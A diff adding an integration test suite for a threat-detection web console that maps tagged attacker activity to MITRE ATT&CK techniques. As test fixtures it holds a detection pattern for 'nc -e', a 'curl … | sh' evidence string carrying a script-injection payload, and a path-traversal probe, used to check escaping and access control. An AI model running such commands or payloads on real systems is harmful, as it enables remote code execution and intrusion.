@@ -1,0 +1,438 @@
+"""The console's pages against a real master, NATS and PostgreSQL, over real HTTP.
+
+The master runs in-process on its own rules directory (two starter rules and one rejected
+file); the console is wired as the bootstrap wires it (its feeds on TTP_TAGS/TTP_RULES, a
+ControlClient) and served by uvicorn on a free port, in proxy login mode so a test picks its
+user with ``X-Forwarded-User`` (``olga`` is an operator, everybody else a viewer). The tests
+play the worker: tag messages published on TTP_TAGS.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import re
+import time
+import uuid
+from collections.abc import AsyncIterator, Callable
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import aiohttp
+import nats
+import pytest
+from nats.aio.client import Client
+from starlette.applications import Starlette
+
+from harness.master import install, master_settings, running_master
+from ttp_console.app import console_templates, create_app
+from ttp_console.bootstrap import ConsoleServer, bind_socket, console_url, server_config
+from ttp_console.context import ConsoleContext
+from ttp_console.pages import close_live_streams
+from ttp_console.rule_feed import RuleFeed
+from ttp_console.settings import ConsoleSettings
+from ttp_console.tag_feed import TagFeed
+from ttp_console.tag_store import TagStore
+from ttp_core.attack.catalogue import load_catalogue
+from ttp_core.contract import subjects
+from ttp_core.contract.payloads import EventTagged, TagData, encode, envelope, worker_source
+from ttp_runtime.control_client import ControlClient
+from ttp_runtime.nats import MSG_ID_HEADER
+
+TIMEOUT_S = 30.0
+OPERATOR = "olga"
+VIEWER = "victor"
+HOSTILE = '<script>alert("x")</script>'
+REJECTED_RULE = """\
+rule_id: R9000
+rule_version: 1
+name: broken_rule
+applies_to: [command]
+match:
+  field: command_text
+  pattern: 'nc -e'
+emits:
+  - tactic: TA0002
+    technique_id: T99
+    confidence: 0.5
+"""
+
+
+@dataclass
+class World:
+    url: str
+    app: Starlette
+    store: TagStore
+    rules: RuleFeed
+    nc: Client
+
+    def client(self, user: str) -> aiohttp.ClientSession:
+        return aiohttp.ClientSession(
+            base_url=self.url,
+            cookie_jar=aiohttp.CookieJar(unsafe=True),
+            headers={"X-Forwarded-User": user},
+        )
+
+
+async def eventually(check: Callable[[], Any], what: str) -> None:
+    deadline = time.monotonic() + TIMEOUT_S
+    while not check():
+        if time.monotonic() > deadline:
+            pytest.fail(f"timed out waiting for {what}")
+        await asyncio.sleep(0.05)
+
+
+@pytest.fixture
+async def world(private_nats: Any, database_url: str, tmp_path: Path) -> AsyncIterator[World]:
+    rules_dir = tmp_path / "rules"
+    rules_dir.mkdir()
+    install(rules_dir, ["R0019", "R0020"])
+    (rules_dir / "R9000.yaml").write_text(REJECTED_RULE)
+    async with running_master(master_settings(private_nats.url, database_url, rules_dir)):
+        nc = await nats.connect(private_nats.url, max_reconnect_attempts=-1)
+        catalogue = load_catalogue()
+        store = TagStore(catalogue)
+        rule_feed = RuleFeed(nc)
+        tag_feed = TagFeed(nc, store)
+        settings = ConsoleSettings(
+            nats_url=private_nats.url,
+            console_auth="proxy",
+            console_trusted_proxies=["127.0.0.1/32"],
+            console_operators=[OPERATOR],
+            console_session_secret="s" * 40,
+            console_cookie_secure=False,
+        )
+        context = ConsoleContext(
+            settings=settings,
+            control=ControlClient(nc),
+            tags=store,
+            rules=rule_feed,
+            catalogue=catalogue,
+            templates=console_templates(),
+        )
+        app = create_app(context)
+        rule_feed.start()
+        tag_feed.start()
+        sock = bind_socket("127.0.0.1", 0)
+        server = ConsoleServer(server_config(app, settings))
+        serving = asyncio.create_task(server.serve(sockets=[sock]))
+        try:
+            while not server.started:
+                assert not serving.done(), serving
+                await asyncio.sleep(0.01)
+            assert await rule_feed.wait_caught_up(TIMEOUT_S)
+            assert await tag_feed.wait_caught_up(TIMEOUT_S)
+            await eventually(lambda: len(rule_feed.definitions()) == 2, "the starter rules")
+            yield World(console_url(sock, "127.0.0.1").rstrip("/"), app, store, rule_feed, nc)
+        finally:
+            close_live_streams(app)
+            server.should_exit = True
+            await asyncio.wait_for(serving, 10)
+            await tag_feed.stop()
+            await rule_feed.stop()
+            await nc.close()
+
+
+def tag(
+    technique: str, sub: str | None, rule_id: str = "R0019", confidence: float = 0.85
+) -> TagData:
+    return TagData(
+        uuid=str(uuid.uuid4()),
+        rule_id=rule_id,
+        rule_version=1,
+        tactic="TA0002",
+        technique_id=technique,
+        sub_technique_id=sub,
+        confidence=confidence,
+        evidence={"command_text": f"curl http://x/{HOSTILE} | sh"},
+        attack_version="18.1",
+        mitre_url="https://attack.mitre.org/techniques/T1059/004/",
+    )
+
+
+async def publish_tags(
+    nc: Client, *tags: TagData, attacker: str = "attacker-7", kind: str = "command"
+) -> None:
+    data = EventTagged(
+        source_kind=kind,
+        source_id=f"evt-{uuid.uuid4().hex[:8]}",
+        attacker_uuid=attacker,
+        revision=1,
+        tags=list(tags),
+    )
+    message = encode(envelope(data, source=worker_source("w1"), subject=data.source_id))
+    await nc.jetstream().publish(
+        subjects.tagged(kind), message, headers={MSG_ID_HEADER: str(uuid.uuid4())}
+    )
+
+
+async def get(http: aiohttp.ClientSession, path: str, status: int = 200) -> str:
+    async with http.get(path, allow_redirects=False) as response:
+        text = await response.text()
+        assert response.status == status, (path, response.status, text[:500])
+        return text
+
+
+_TOKEN = re.compile(r'name="csrf-token" content="([^"]+)"')
+_STYLE_ATTRIBUTE = re.compile(r"<[^>]+\sstyle\s*=", re.IGNORECASE)
+
+
+async def csrf_token(http: aiohttp.ClientSession, path: str) -> str:
+    match = _TOKEN.search(await get(http, path))
+    assert match is not None
+    return match.group(1)
+
+
+async def post(
+    http: aiohttp.ClientSession, path: str, form: dict[str, str], token: str
+) -> aiohttp.ClientResponse:
+    async with http.post(path, data={**form, "csrf_token": token}, allow_redirects=False) as r:
+        await r.read()
+        return r
+
+
+# --------------------------------------------------------------------------------------------
+# Looking
+# --------------------------------------------------------------------------------------------
+
+
+async def test_the_matrix_shows_observed_and_covered_heat_without_inline_styles(
+    world: World,
+) -> None:
+    await publish_tags(world.nc, tag("T1059", "T1059.004"), tag("T1105", None, confidence=0.9))
+    await eventually(lambda: world.store.stats().tags == 2, "the tags")
+
+    async with world.client(VIEWER) as http:
+        observed = await get(http, "/?window=1h")
+        covered = await get(http, "/?heat=covered")
+        broken = await get(http, "/?window=forever&heat=<b>")
+
+    cell = re.compile(r'class="cell heat-(\d)" href="/techniques/T1059"')
+    match = cell.search(observed)
+    assert match is not None and match.group(1) == "5"  # the busiest technique
+    assert re.search(r'class="cell heat-0" href="/techniques/T1110"', observed)
+    # R0019 emits T1059.004 at 0.85: its parent's coverage heat is ceil(0.85 * 5) = 5.
+    match = cell.search(covered)
+    assert match is not None and match.group(1) == "5"
+    assert "Command and Scripting Interpreter" in observed
+    assert "24h" in broken  # an unknown window falls back to 24 h
+    for page in (observed, covered, broken):
+        assert _STYLE_ATTRIBUTE.search(page) is None
+        assert "<script>" not in page.replace('<script src="', "")
+
+
+async def test_the_inspector_shows_the_rules_and_the_evidence_of_the_latest_tags(
+    world: World,
+) -> None:
+    await publish_tags(world.nc, tag("T1059", "T1059.004"))
+    await eventually(lambda: world.store.stats().tags == 1, "the tag")
+
+    async with world.client(VIEWER) as http:
+        page = await get(http, "/techniques/T1059")
+        sub_page = await get(http, "/techniques/t1059.004")
+        await get(http, "/techniques/T9999", status=404)
+        await get(http, "/techniques/..%2F..%2Fetc", status=404)
+
+    assert 'href="/rules/R0019"' in page  # the rule mapping to it (via its sub-technique)
+    assert "attacker-7" in page
+    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in page  # evidence, escaped
+    assert HOSTILE not in page
+    assert "command_text" in page
+    assert "Unix Shell" in sub_page
+
+
+async def test_the_rules_page_shows_a_rejected_file_with_its_located_error_and_lines(
+    world: World,
+) -> None:
+    async with world.client(VIEWER) as http:
+        rules = await get(http, "/rules")
+        rule = await get(http, "/rules/R9000")
+        good = await get(http, "/rules/R0019")
+        await get(http, "/rules/NOPE", status=404)
+
+    assert 'Rejected <span class="count">1</span>' in rules
+    location = re.search(r'<span class="mono location">(\d+):(\d+)</span>', rules)
+    assert location is not None
+    line = int(location.group(1))
+    assert REJECTED_RULE.splitlines()[line - 1].strip() in rules  # the offending line
+    assert 'class="line-error"' in rules
+    assert "technique_id: T99" in rule
+    assert "download_piped_to_shell" in good
+    assert 'Inline tests <span class="count">6</span>' in good
+    assert "Audit history" in good and "reloaded" in good
+    assert "Change state" not in good  # a viewer sees no controls
+
+
+async def test_the_attacker_page_lists_techniques_with_counts_and_highest_confidence(
+    world: World,
+) -> None:
+    await publish_tags(world.nc, tag("T1059", "T1059.004", confidence=0.4))
+    await publish_tags(world.nc, tag("T1059", "T1059.004", confidence=0.8))
+    await publish_tags(world.nc, tag("T1105", None), attacker="someone-else")
+    await eventually(lambda: world.store.stats().tags == 3, "the tags")
+
+    async with world.client(VIEWER) as http:
+        page = await get(http, "/attackers/attacker-7")
+        listing = await get(http, "/attackers")
+        await get(http, "/attackers/never-seen", status=404)
+
+    row = re.search(
+        r'T1059\.004</a>.*?<td class="num">(\d+)</td>\s*<td class="num">([\d.]+)', page, re.S
+    )
+    assert row is not None
+    assert (row.group(1), row.group(2)) == ("2", "0.80")
+    assert "T1105" not in page
+    assert "someone-else" in listing and "attacker-7" in listing
+
+
+async def test_the_fleet_page_says_whether_the_fleet_converged(world: World) -> None:
+    async with world.client(VIEWER) as http:
+        page = await get(http, "/fleet")
+        fragment = await get(http, "/fleet/fragment")
+    assert 'data-converged="false"' in page
+    assert "no live worker reports" in fragment
+    assert "<html" not in fragment
+
+
+async def test_the_layer_downloads_are_navigator_layers(world: World) -> None:
+    await publish_tags(world.nc, tag("T1059", "T1059.004"))
+    await eventually(lambda: world.store.stats().tags == 1, "the tag")
+    async with world.client(VIEWER) as http:
+        async with http.get("/layers/coverage.json") as response:
+            assert response.status == 200
+            assert "attachment" in response.headers["Content-Disposition"]
+            coverage = json.loads(await response.read())
+        async with http.get("/layers/observed.json?window=1h") as response:
+            observed = json.loads(await response.read())
+    assert coverage["versions"]["layer"] == "4.5"
+    assert coverage["domain"] == "enterprise-attack"
+    covered = {t["techniqueID"] for t in coverage["techniques"]}
+    assert {"T1105", "T1059.004"} <= covered
+    assert {t["techniqueID"] for t in observed["techniques"]} >= {"T1059.004"}
+
+
+# --------------------------------------------------------------------------------------------
+# State controls
+# --------------------------------------------------------------------------------------------
+
+
+async def test_an_operator_disables_and_clears_a_rule_acting_for_themselves(
+    world: World,
+) -> None:
+    async with world.client(OPERATOR) as http:
+        token = await csrf_token(http, "/rules/R0019")
+        response = await post(
+            http,
+            "/rules/R0019/state",
+            {"action": "disable", "reason": "too noisy", "duration": "2h"},
+            token,
+        )
+        assert response.status == 303
+        assert response.headers["Location"] == "/rules/R0019"
+        page = await get(http, "/rules/R0019")
+        assert "R0019 disabled until" in page  # the flash message
+        assert "for olga" in page
+        assert 'class="countdown"' in page
+        await eventually(lambda: not world.rules.in_play("R0019"), "the state on TTP_RULES")
+        rules = await get(http, "/rules")
+        assert "too noisy" in rules
+        assert "<strong>olga</strong>" in rules  # on whose behalf
+        assert "R0019" not in {c.rule_id for c in world.rules.coverage()}
+
+        response = await post(http, "/rules/R0019/state/clear", {"reason": "calm"}, token)
+        assert response.status == 303
+        page = await get(http, "/rules/R0019")
+        assert "enabled again" in page
+        audit = page[page.index('id="audit"') :]
+        assert audit.count("<td>olga</td>") == 2  # both changes, each for olga
+        await eventually(lambda: world.rules.in_play("R0019"), "the cleared state")
+
+
+async def test_state_errors_are_shown_not_swallowed(world: World) -> None:
+    async with world.client(OPERATOR) as http:
+        token = await csrf_token(http, "/rules/R0019")
+        await post(
+            http,
+            "/rules/R0019/state",
+            {"action": "clip", "reason": "x", "confidence_max": "7"},
+            token,
+        )
+        page = await get(http, "/rules/R0019")
+        assert "R0019 was not changed: confidence_max" in page
+        await post(
+            http,
+            "/rules/R0019/state",
+            {"action": "disable", "reason": "x", "duration": "soon"},
+            token,
+        )
+        assert "not a duration" in await get(http, "/rules/R0019")
+        # The master's own refusal: it knows no rule NEVER-SEEN.
+        await post(http, "/rules/NEVER-SEEN/state", {"action": "disable", "reason": "x"}, token)
+        page = await get(http, "/rules/R0019")
+        assert "NEVER-SEEN was not changed:" in page
+
+
+async def test_a_viewer_sees_no_controls_and_cannot_post_them(world: World) -> None:
+    async with world.client(VIEWER) as http:
+        token = await csrf_token(http, "/rules/R0019")
+        response = await post(
+            http, "/rules/R0019/state", {"action": "disable", "reason": "mine now"}, token
+        )
+        assert response.status == 403
+        response = await post(http, "/rules/R0019/state/clear", {}, token)
+        assert response.status == 403
+        forged = await post(http, "/rules/R0019/state", {"action": "disable", "reason": "x"}, "")
+        assert forged.status == 403
+    assert world.rules.in_play("R0019")
+
+
+# --------------------------------------------------------------------------------------------
+# Live tags
+# --------------------------------------------------------------------------------------------
+
+
+async def _events(response: aiohttp.ClientResponse, wanted: int) -> list[tuple[str, Any]]:
+    events: list[tuple[str, Any]] = []
+    name = None
+    while len(events) < wanted:
+        line = (await asyncio.wait_for(response.content.readline(), TIMEOUT_S)).decode()
+        if not line:
+            break
+        line = line.rstrip("\n")
+        if line.startswith("event: "):
+            name = line.removeprefix("event: ")
+        elif line.startswith("data: ") and name is not None:
+            events.append((name, json.loads(line.removeprefix("data: "))))
+            name = None
+    return events
+
+
+async def test_live_tags_stream_only_what_the_filter_asks_for_and_close_at_shutdown(
+    world: World,
+) -> None:
+    async with world.client(VIEWER) as http:
+        page = await get(http, "/live?technique=T1105&rule=bad.rule")
+        assert 'data-stream="/live/stream?technique=T1105' in page
+        assert "Ignored (not valid): rule" in page
+        async with http.get("/live/stream?technique=T1105") as response:
+            assert response.status == 200
+            assert response.headers["Content-Type"].startswith("text/event-stream")
+            assert (await response.content.readline()).startswith(b"retry:")
+            await eventually(lambda: world.store.stats().subscribers == 1, "the subscriber")
+            await publish_tags(world.nc, tag("T1059", "T1059.004"))
+            await publish_tags(world.nc, tag("T1105", None, confidence=0.9), kind="ssh")
+            [(name, row)] = await _events(response, 1)
+            assert name == "tag"
+            assert (row["technique"], row["source_kind"], row["confidence"]) == (
+                "T1105",
+                "ssh",
+                0.9,
+            )
+            assert ["command_text", f"curl http://x/{HOSTILE} | sh"] in row["evidence"]
+
+            close_live_streams(world.app)
+            [(name, _data)] = await _events(response, 1)
+            assert name == "bye"
+            assert (await response.content.read()).strip() == b""  # the stream ended
+    await eventually(lambda: world.store.stats().subscribers == 0, "the subscriber to leave")
